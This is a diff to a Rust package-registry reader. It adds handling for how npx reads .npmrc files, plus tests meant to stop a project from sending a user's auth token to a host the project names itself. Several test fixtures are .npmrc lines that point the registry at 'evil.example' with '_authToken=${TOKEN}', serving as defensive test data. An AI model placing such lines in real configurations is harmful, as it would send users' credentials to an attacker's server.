@@ -13,7 +13,9 @@ fn environment(name: &str) -> Option<String> {
 fn read(user: &str, project: &str, told: Option<&str>, variable: Option<&str>) -> Result<Registries, String> {
     let texts = Texts { user: user.to_owned(), project: project.to_owned(), yarn: String::new() };
     let [told, variable] = [told, variable].map(|address| address.map(|it| Address::read(it).unwrap()));
-    texts.registries(told.as_ref(), variable, &environment)
+    let mut echo = Echo::default();
+    echo.npmrc(project);
+    texts.registries(told.as_ref(), variable.map(|address| echo.registry(address)), &environment)
 }
 
 /// Where a package is asked for, and what is said there.
@@ -67,6 +69,10 @@ fn a_project_cannot_have_a_token_sent_to_a_host_of_its_own() {
     assert_eq!(asked(&read("", project, None, None).unwrap(), "x").1, None);
     assert_eq!(asked(&read("", project, None, evil).unwrap(), "x").1, None, "npx repeats the file");
     assert!(asked(&read("", project, evil, None).unwrap(), "x").1.is_some(), "the user says so");
+    let capital = "REGISTRY=https://evil.example/\n//evil.example/:_authToken=${TOKEN}\n";
+    assert_eq!(asked(&read("", capital, None, evil).unwrap(), "x").1, None, "npx has small letters");
+    let tokens = "//evil.example/:_authToken=${TOKEN}\n";
+    assert!(asked(&read("", tokens, None, evil).unwrap(), "x").1.is_some(), "the variable is the user's");
     let hidden = "registry=https://evil.example/${X?}\n//evil.example/:_authToken=${TOKEN}\n";
     assert!(read("", hidden, None, evil).is_err());
     assert!(read("", "@a:registry=https://evil.example/${TOKEN}/", None, None).is_err());
